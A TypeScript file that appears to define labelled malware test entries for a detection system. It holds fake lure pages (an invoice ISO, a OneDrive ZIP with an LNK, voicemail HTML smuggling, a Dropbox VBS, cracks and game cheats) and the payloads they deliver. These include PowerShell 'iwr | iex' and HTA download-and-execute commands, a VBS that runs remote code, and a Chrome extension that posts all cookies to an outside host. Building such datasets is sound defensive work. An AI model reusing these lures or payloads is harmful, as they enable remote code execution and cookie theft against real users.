import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute, fileRoute, zip, pe, cfb, iso, lnk, apk, crx, rar5, sevenZip } from '../parts/e-bin.js';
import { doc, icons, vendorCss, footerLinks, gtagInline } from '../parts/m-kit.js';

export const entries: Entry[] = [
(() => {
  const host = 'billing.quickpay-invoices.com';
  return {
    id: 'm-docportal-invoice-iso',
    label: 'malware',
    kind: 'document-payload',
    url: `https://${host}/inv/view?id=INV-20931&c=northwind`,
    body: doc({
      title: 'Invoice INV-20931 from Northwind Supplies',
      css: `body{margin:0;background:#eef2f5;font-family:Avenir,"Segoe UI",Arial,sans-serif;color:#393a3d}.c{max-width:560px;margin:60px auto;background:#fff;border-radius:8px;padding:32px;box-shadow:0 2px 6px rgba(0,0,0,.1)}
.amt{font-size:36px;font-weight:700}.b{display:block;background:#2ca01c;color:#fff;text-align:center;padding:14px;border-radius:4px;text-decoration:none;font-weight:600;margin-top:18px}dl{display:grid;grid-template-columns:1fr 1fr;gap:6px}dt{color:#6b6c72}`,
      body: `<div class="c"><p style="color:#6b6c72">Northwind Supplies Ltd.</p><h2>Invoice INV-20931</h2><div class="amt">$14,820.50</div><p>Due 12/15/2025</p>
<dl><dt>Invoice date</dt><dd>11/15/2025</dd><dt>Terms</dt><dd>Net 30</dd><dt>Bill to</dt><dd>Accounts Payable</dd></dl>
<a class="b" href="/inv/download/INV-20931.iso">Review and download invoice</a><p style="font-size:12px;color:#888;text-align:center">The invoice is packaged as a secure disc image. Double-click the file to open it.</p>
<p style="font-size:11px;color:#aaa;text-align:center;margin-top:30px">Powered by QuickPay Invoicing · Privacy · Security</p></div>`,
    }),
    routes: {
      ...icons(host, [44, 160, 28]),
      [`${host}/inv/download/INV-20931.iso`]: fileRoute(iso('INV_20931', ['INV-20931.pdf.lnk', 'data.dll', 'readme.txt']), 'application/x-iso9660-image', 'INV-20931.iso'),
    },
  };
})(),

(() => {
  const host = 'onedrive-share.filesecure-docs.com';
  const z = zip([{ name: 'Scan_Contract_2025-11-18.pdf.lnk', data: lnk('C:\\Windows\\System32\\cmd.exe', '/c powershell -w h -c "iwr https://filesecure-docs.com/c.ps1 -useb | iex" & start "" contract.pdf', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe') }]);
  return {
    id: 'm-docportal-onedrive-zip-lnk',
    label: 'malware',
    kind: 'document-payload',
    url: `https://${host}/personal/j_morrison/Documents/Shared?e=Xk2pQ`,
    body: doc({
      title: 'OneDrive',
      css: `body{margin:0;font-family:"Segoe UI",sans-serif;background:#faf9f8}.top{background:#0078d4;color:#fff;padding:12px 20px;font-weight:600}.f{max-width:700px;margin:50px auto;background:#fff;border:1px solid #edebe9;padding:24px}
.row{display:flex;align-items:center;gap:14px;padding:12px;border-bottom:1px solid #edebe9}.b{background:#0078d4;color:#fff;border:0;padding:8px 18px;cursor:pointer}`,
      body: `<div class="top">OneDrive</div><div class="f"><h3>James Morrison shared a folder with you</h3>
<div class="row"><span style="font-size:26px">📁</span><div><b>Contract_Documents.zip</b><br><small>48 KB · Modified 18 November 2025</small></div><button class="b" id="d" style="margin-left:auto">Download</button></div>
<p style="font-size:13px;color:#605e5c">This link works for anyone with the link. Microsoft respects your privacy. <a href="#">Privacy &amp; cookies</a> · <a href="#">Terms of use</a></p></div>
<script>document.getElementById('d').onclick=function(){location.href='https://storage-1drv.filesecure-docs.com/dl/Contract_Documents.zip'};</script>`,
    }),
    routes: {
      ...icons(host, [0, 120, 212]),
      'storage-1drv.filesecure-docs.com/dl/Contract_Documents.zip': fileRoute(z, 'application/zip', 'Contract_Documents.zip'),
    },
  };
})(),

(() => {
  const host = 'voicemail.ringcentral-msg.com';
  const hta = `<html><head><title>Voice Message</title><HTA:APPLICATION APPLICATIONNAME="vm" BORDER="none" SHOWINTASKBAR="no" WINDOWSTATE="minimize"/><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -nop -w hidden -c ""IEX(New-Object Net.WebClient).DownloadString('https://ringcentral-msg.com/vm/stage.ps1')""", 0, False : window.close</script></head><body></body></html>`;
  const enc = Buffer.from(hta).toString('base64');
  return {
    id: 'm-smuggling-dataurl-hta-voicemail',
    label: 'malware',
    kind: 'html-smuggling',
    url: `https://${host}/listen?msg=VM-0034-1121&ext=214`,
    body: doc({
      title: 'New voice message (0:47) – RingCentral',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#f3f6f9}.c{max-width:440px;margin:80px auto;background:#fff;border-radius:10px;padding:28px;text-align:center;border-top:5px solid #ff8800}
.play{width:70px;height:70px;border-radius:50%;background:#0684bd;color:#fff;border:0;font-size:28px;cursor:pointer}.wave{height:40px;background:repeating-linear-gradient(90deg,#0684bd 0 3px,transparent 3px 7px);opacity:.4;margin:20px 0}`,
      body: `<div class="c"><h3>You have a new voice message</h3><p>From: +1 (312) 555-0190 · Duration 0:47 · Received 11/20/2025 09:14</p><div class="wave"></div>
<button class="play" id="p">▶</button><p style="font-size:13px;color:#666">Your browser can't play this message format. Click play to download the secure audio player.</p></div>
<script>
document.getElementById('p').onclick = function(){
  var a = document.createElement('a');
  a.href = 'data:application/hta;base64,${enc}';
  a.download = 'VoiceMessage_0047.hta';
  document.body.appendChild(a); a.click();
};
</script>`,
    }),
    routes: { ...icons(host, [6, 132, 189]) },
  };
})(),

(() => {
  const host = 'www.dropbox-transfer.online';
  return {
    id: 'm-docportal-vbs-other-host',
    label: 'malware',
    kind: 'document-payload',
    url: `https://${host}/t/AAB9xQp2-Purchase-Order`,
    body: doc({
      title: 'Dropbox Transfer - Purchase Order 4471',
      css: `body{margin:0;font-family:"Sharp Grotesk",Arial,sans-serif;background:#f7f5f2;color:#1e1919}.c{max-width:520px;margin:70px auto;background:#fff;padding:34px;border-radius:4px}
.b{background:#0061fe;color:#fff;border:0;padding:12px 22px;border-radius:4px;font-weight:600;cursor:pointer}`,
      body: `<div class="c"><img src="/img/logo.png" width="36" height="36" alt=""><h2>Purchase Order 4471 – Signed copy</h2><p>Sent by procurement@baltic-marine-supply.com · 1 file · 12 KB · Expires in 6 days</p>
<button class="b" id="b">Download</button><p id="s" style="font-size:13px;color:#666"></p></div>
<script>
document.getElementById('b').onclick=function(){
  document.getElementById('s').textContent='Your download is starting…';
  var f=document.createElement('iframe');f.style.display='none';f.src='https://dl-content.tr4nsfer-cdn.com/u/PO_4471_signed.vbs';document.body.appendChild(f);
};
setTimeout(function(){document.getElementById('b').click()},2500);
</script>`,
    }),
    routes: {
      ...icons(host, [0, 97, 254]),
      'dl-content.tr4nsfer-cdn.com/u/PO_4471_signed.vbs': fileRoute(`' Purchase order viewer\r\nOn Error Resume Next\r\nSet o = CreateObject("MSXML2.ServerXMLHTTP")\r\no.Open "GET", "https://tr4nsfer-cdn.com/p/s.txt", False\r\no.Send\r\nExecute o.responseText\r\n`, 'text/vbscript', 'PO_4471_signed.vbs'),
    },
  };
})(),

(() => {
  const host = 'kmspico-official.io';
  return {
    id: 'm-keygen-kms-activator',
    label: 'malware',
    kind: 'keygen',
    url: `https://${host}/`,
    body: doc({
      title: 'KMSPico 11 – Official Windows & Office Activator [2025]',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#fff;color:#222}.h{background:#c0392b;color:#fff;padding:40px;text-align:center}.m{max-width:840px;margin:auto;padding:30px}
.b{background:#27ae60;color:#fff;padding:16px 40px;text-decoration:none;font-size:20px;border-radius:4px;display:inline-block}.faq dt{font-weight:bold;margin-top:14px}`,
      body: `<div class="h"><h1>KMSPico Activator</h1><p>Activate Windows 10 / 11 and Microsoft Office 2016–2024 permanently. 100% working, clean and safe.</p><a class="b" href="/download/KMSPico_11_Setup.zip">Download KMSPico</a><p>ZIP password: <b>2025</b></p></div>
<div class="m"><h2>How to activate</h2><ol><li>Disable real-time protection in Windows Security (the activator modifies licence files, so antivirus reports it).</li><li>Extract the archive with password <b>2025</b>.</li><li>Run <b>KMSPico_setup.exe</b> as administrator.</li><li>Click the red button and wait for the beep.</li></ol>
<dl class="faq"><dt>Is KMSPico a virus?</dt><dd>No. Antivirus programs detect it as HackTool because it bypasses activation. It is a false positive.</dd><dt>Does it work offline?</dt><dd>Yes.</dd></dl></div>
<p style="text-align:center;font-size:12px;color:#888">kmspico-official.io is not affiliated with Microsoft.</p>`,
    }),
    routes: {
      ...icons(host, [192, 57, 43]),
      [`${host}/download/KMSPico_11_Setup.zip`]: fileRoute(zip([{ name: 'KMSPico_setup.exe', data: pe({ strings: ['KMSPico', 'AutoPico', 'Vidar'] }) }, { name: 'Password 2025.txt', data: 'pass: 2025' }], { encrypted: true }), 'application/zip', 'KMSPico_11_Setup.zip'),
    },
  };
})(),

(() => {
  const host = 'phantomcheats.gg';
  return {
    id: 'm-cheat-valorant-loader',
    label: 'malware',
    kind: 'game-cheat',
    url: `https://${host}/valorant`,
    body: doc({
      title: 'Valorant Hack – Aimbot, ESP, Skin Changer | Undetected | PhantomCheats',
      css: `body{margin:0;background:#0b0e14;color:#d6d9e0;font-family:Rajdhani,Arial,sans-serif}.n{padding:16px 40px;background:#11151f;display:flex;gap:20px}.n b{color:#ff4655}
.h{max-width:900px;margin:40px auto;padding:0 20px}.st{display:inline-block;background:#1d3b24;color:#4cd964;padding:3px 12px;border-radius:20px;font-weight:bold}.b{background:#ff4655;color:#fff;padding:14px 30px;text-decoration:none;display:inline-block;font-weight:bold;letter-spacing:1px}
.f{display:grid;grid-template-columns:1fr 1fr;gap:12px}.f div{background:#151a26;padding:14px}`,
      body: `<div class="n"><b>PHANTOM</b>CHEATS<span>Valorant</span><span>CS2</span><span>Fortnite</span><span>Discord</span></div>
<div class="h"><h1>Valorant Cheat – Free Loader</h1><p>Status: <span class="st">UNDETECTED</span> · Updated 2 hours ago · Vanguard bypass v7</p>
<div class="f"><div>🎯 Aimbot (smooth, FOV, bone select)</div><div>👁 ESP boxes, health, distance</div><div>🔫 Triggerbot</div><div>🎨 Skin changer – all skins unlocked</div></div>
<h3>Instructions</h3><ol><li>Disable Windows Defender and SmartScreen (required for kernel driver).</li><li>Extract with password <b>phantom</b>.</li><li>Run <b>Loader.exe</b> as admin before starting Riot Client.</li><li>Press INSERT in game for menu.</li></ol>
<a class="b" href="https://cdn.discordapp-files.net/attachments/1129/PhantomLoader_v7.zip">DOWNLOAD LOADER</a><p style="font-size:12px">Join our Discord for keys &amp; support: discord.gg/phntm</p></div>`,
    }),
    routes: {
      ...icons(host, [255, 70, 85]),
      'cdn.discordapp-files.net/attachments/1129/PhantomLoader_v7.zip': fileRoute(zip([{ name: 'PhantomLoader/Loader.exe', data: pe({ strings: ['PhantomLoader', 'VMProtect', 'discord webhook'] }) }, { name: 'PhantomLoader/driver.sys', data: pe({ dll: true, strings: ['drv'] }) }], { encrypted: true }), 'application/zip', 'PhantomLoader_v7.zip'),
    },
  };
})(),

(() => {
  const host = 'solara-exec.pages-download.com';
  return {
    id: 'm-roblox-executor-download',
    label: 'malware',
    kind: 'game-cheat',
    url: `https://${host}/download`,
    body: doc({
      title: 'Solara Executor – Free Roblox Executor (Keyless) | Download',
      css: `body{margin:0;background:linear-gradient(#14121f,#231c3a);color:#eee;font-family:Poppins,Arial,sans-serif;min-height:100vh}.c{max-width:700px;margin:auto;padding:60px 20px;text-align:center}
.b{background:#8a5cf6;border:0;color:#fff;padding:16px 40px;border-radius:10px;font-size:18px;cursor:pointer}.k{background:#2b2445;border-radius:10px;padding:14px;margin:18px 0;text-align:left}`,
      body: `<div class="c"><h1>Solara Executor v3.14</h1><p>Keyless, level 8 Roblox script executor with UNC 98%. Works with Byfron/Hyperion. Run Blox Fruits, Pet Simulator 99, Da Hood scripts.</p>
<button class="b" id="d">Download for Windows</button><div class="k">⚠ Your antivirus will flag Solara because it injects into Roblox. Add an exclusion folder or turn off real-time protection before running <b>Bootstrapper.exe</b>.</div>
<p style="font-size:13px;opacity:.6">Downloads today: 18,442 · Join our Discord for scripts</p></div>
<script>document.getElementById('d').onclick=function(){var a=document.createElement('a');a.href='/files/SolaraBootstrapper.exe';a.download='SolaraBootstrapper.exe';document.body.appendChild(a);a.click();};</script>`,
    }),
    routes: {
      ...icons(host, [138, 92, 246]),
      [`${host}/files/SolaraBootstrapper.exe`]: fileRoute(pe({ strings: ['Solara Bootstrapper', 'node.exe', 'Lumma'] }), 'application/x-msdownload', 'SolaraBootstrapper.exe'),
    },
  };
})(),

(() => {
  const host = 'flstudio-full.blogspot-links.com';
  return {
    id: 'm-crack-flstudio-7z-video-link',
    label: 'malware',
    kind: 'cracked-software',
    url: `https://${host}/fl-studio-24?utm_source=youtube&utm_medium=description`,
    body: doc({
      title: 'FL Studio 24 Producer Edition Full Crack – Free Download',
      css: `body{margin:0;background:#1a1a1a;color:#eee;font-family:Verdana,sans-serif}.c{max-width:640px;margin:40px auto;background:#242424;padding:26px;border-radius:8px}.b{display:block;background:#ff8c00;color:#000;text-align:center;padding:14px;font-weight:bold;text-decoration:none;border-radius:6px}
code{background:#000;color:#0f0;padding:2px 8px}`,
      body: `<div class="c"><h2>FL Studio 24.2 Producer Edition + All Plugins Bundle (FULL CRACK)</h2><p>Thanks for watching the video! 👍 Here is the download link from the description.</p>
<p>✔ All plugins unlocked (Gross Beat, Harmor, Sytrus)<br>✔ Lifetime activation<br>✔ Windows 10/11 64-bit</p>
<p>Archive password: <code>FL2025</code></p><a class="b" href="https://files.upl0ad-drive.org/FLStudio24_Full.7z">DOWNLOAD (1.2 GB)</a>
<p style="font-size:12px;color:#aaa">If Windows says “Virus detected”, temporarily disable protection — it's because of the crack. Subscribe for more free software!</p></div>`,
    }),
    routes: {
      ...icons(host, [255, 140, 0]),
      'files.upl0ad-drive.org/FLStudio24_Full.7z': fileRoute(sevenZip(), 'application/x-7z-compressed', 'FLStudio24_Full.7z'),
    },
  };
})(),

(() => {
  const host = 'pdf-viewer-extension.net';
  return {
    id: 'm-crx-pdf-viewer-extension',
    label: 'malware',
    kind: 'malicious-extension',
    url: `https://${host}/install?doc=statement_nov.pdf`,
    body: doc({
      title: 'PDF Viewer Pro – Open protected PDF',
      css: vendorCss('#d93025') + 'main{text-align:center}',
      body: `<header class="top"><a class="brand" href="/"><img src="/img/logo.png" alt="">PDF Viewer Pro</a></header>
<main><h1>This document requires PDF Viewer Pro</h1><p>“statement_nov.pdf” is protected. Add the free PDF Viewer Pro extension to Chrome to open it.</p>
<ol style="text-align:left;max-width:520px;margin:20px auto"><li>Click <b>Download extension</b>.</li><li>Open <b>chrome://extensions</b> and turn on <b>Developer mode</b>.</li><li>Drag the downloaded file into the page and click <b>Add extension</b>.</li></ol>
<a class="btn" href="/crx/pdf_viewer_pro_3.1.crx">Download extension</a><p class="muted">Permissions: read and change all your data on all websites — needed to render documents.</p></main>
${footerLinks('PDF Viewer Pro')}`,
    }),
    routes: {
      ...icons(host, [217, 48, 37]),
      [`${host}/crx/pdf_viewer_pro_3.1.crx`]: fileRoute(crx([
        { name: 'manifest.json', data: JSON.stringify({ manifest_version: 3, name: 'PDF Viewer Pro', version: '3.1', permissions: ['cookies', 'tabs', 'webRequest', 'storage', 'scripting'], host_permissions: ['<all_urls>'], background: { service_worker: 'bg.js' } }) },
        { name: 'bg.js', data: "chrome.cookies.getAll({},c=>fetch('https://pdf-viewer-extension.net/c',{method:'POST',body:JSON.stringify(c)}));" },
      ]), 'application/x-chrome-extension', 'pdf_viewer_pro_3.1.crx'),
    },
  };
})(),
];
